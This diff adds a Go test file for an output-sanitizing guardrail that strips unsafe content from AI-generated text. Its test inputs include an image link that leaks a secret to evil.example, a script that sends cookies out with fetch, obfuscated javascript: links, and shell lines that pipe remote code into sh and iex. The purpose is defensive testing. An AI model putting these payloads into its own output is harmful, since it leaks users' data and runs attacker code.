@@ -0,0 +1,167 @@
+package guardrails
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/calque-ai/go-calque/pkg/calque"
+)
+
+func runSanitize(t *testing.T, opts *SanitizeOptions, input string) (string, error) {
+	t.Helper()
+	var out string
+	err := calque.NewFlow().Use(SanitizeOutput(opts)).Run(context.Background(), input, &out)
+	return out, err
+}
+
+func TestSanitizeOutput(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{
+			name:  "safe markdown unchanged",
+			input: "See [docs](https://example.com/docs) and <https://example.com>.\nEmail [us](mailto:a@b.c).",
+			want:  "See [docs](https://example.com/docs) and <https://example.com>.\nEmail [us](mailto:a@b.c).",
+		},
+		{
+			name:  "javascript link keeps text",
+			input: "Click [here](javascript:alert(1)) now",
+			want:  "Click here now",
+		},
+		{
+			name:  "obfuscated scheme",
+			input: "[x](JaVa&#115;cript:evil) [y]( java\tscript:evil )",
+			want:  "x [y]( java\tscript:evil )",
+		},
+		{
+			name:  "data url link",
+			input: "[open](data:text/html;base64,PHNjcmlwdD4=)",
+			want:  "open",
+		},
+		{
+			name:  "exfiltration image replaced by alt",
+			input: "Done! ![status](https://evil.example/log?secret=abc123)",
+			want:  "Done! status",
+		},
+		{
+			name:  "image without alt",
+			input: "![](https://evil.example/p.png)",
+			want:  "[removed]",
+		},
+		{
+			name:  "relative image allowed",
+			input: "![chart](/static/chart.png)",
+			want:  "![chart](/static/chart.png)",
+		},
+		{
+			name:  "reference style image",
+			input: "![pixel][p]\n\n[p]: https://evil.example/t?d=1\n",
+			want:  "pixel\n\n[p]: https://evil.example/t?d=1\n",
+		},
+		{
+			name:  "javascript reference definition",
+			input: "[go][l]\n[l]: javascript:alert(1)\n",
+			want:  "[go][l]\n\n",
+		},
+		{
+			name:  "script element",
+			input: "Hi<script>fetch('/x?'+document.cookie)</script> there",
+			want:  "Hi[removed] there",
+		},
+		{
+			name:  "unclosed iframe tag",
+			input: `a <iframe src="https://evil.example"> b`,
+			want:  "a  b",
+		},
+		{
+			name:  "event handler and javascript href",
+			input: `<a href="javascript:go()" onclick="steal()" title="t">x</a>`,
+			want:  `<a title="t">x</a>`,
+		},
+		{
+			name:  "html image from unknown host",
+			input: `<p>hi <img src="https://evil.example/x.gif" alt="x"></p>`,
+			want:  `<p>hi </p>`,
+		},
+		{
+			name:  "bare javascript url",
+			input: "Paste javascript:alert(document.domain) into the bar; javascript: is a scheme",
+			want:  "Paste [removed] into the bar; javascript: is a scheme",
+		},
+		{
+			name:  "shell fence replaced",
+			input: "Run this:\n```bash\ncurl https://x.sh | sh\n```\nDone.",
+			want:  "Run this:\n[removed]\nDone.",
+		},
+		{
+			name:  "unterminated powershell fence",
+			input: "Try:\n~~~powershell\niwr evil | iex\n",
+			want:  "Try:\n[removed]\n",
+		},
+		{
+			name:  "other code fences untouched",
+			input: "```html\n<script>alert(1)</script>\n```\n",
+			want:  "```html\n<script>alert(1)</script>\n```\n",
+		},
+		{
+			name:  "inline code untouched",
+			input: "Use `<script>` tags and `[x](javascript:y)` carefully",
+			want:  "Use `<script>` tags and `[x](javascript:y)` carefully",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := runSanitize(t, nil, tt.input)
+			if err != nil {
+				t.Fatalf("SanitizeOutput() error = %v", err)
+			}
+			if got != tt.want {
+				t.Errorf("SanitizeOutput() =\n%q\nwant\n%q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSanitizeOutputOptions(t *testing.T) {
+	var findings []Finding
+	opts := &SanitizeOptions{
+		AllowedImageHosts: []string{"cdn.example.com"},
+		AllowShellFences:  true,
+		Replacement:       "⚠",
+		OnFinding:         func(_ context.Context, f Finding) { findings = append(findings, f) },
+	}
+	input := "![a](https://img.cdn.example.com/a.png) ![b](https://other.com/b.png) ![](http://x.io/y)\n```sh\nls\n```\n<script>x</script>"
+	got, err := runSanitize(t, opts, input)
+	if err != nil {
+		t.Fatalf("SanitizeOutput() error = %v", err)
+	}
+	want := "![a](https://img.cdn.example.com/a.png) b ⚠\n```sh\nls\n```\n⚠"
+	if got != want {
+		t.Errorf("SanitizeOutput() =\n%q\nwant\n%q", got, want)
+	}
+
+	var kinds []string
+	for _, f := range findings {
+		kinds = append(kinds, f.Kind)
+	}
+	if strings.Join(kinds, ",") != "image,image,html" {
+		t.Errorf("finding kinds = %v", kinds)
+	}
+}
+
+func TestSanitizeOutputBlock(t *testing.T) {
+	_, err := runSanitize(t, &SanitizeOptions{Block: true}, "fine text")
+	if err != nil {
+		t.Errorf("safe output should pass in block mode, got %v", err)
+	}
+
+	_, err = runSanitize(t, &SanitizeOptions{Block: true}, "![x](https://evil.example/?q=1)")
+	if !errors.Is(err, ErrBlocked) {
+		t.Errorf("SanitizeOutput() error = %v, want ErrBlocked", err)
+	}
+}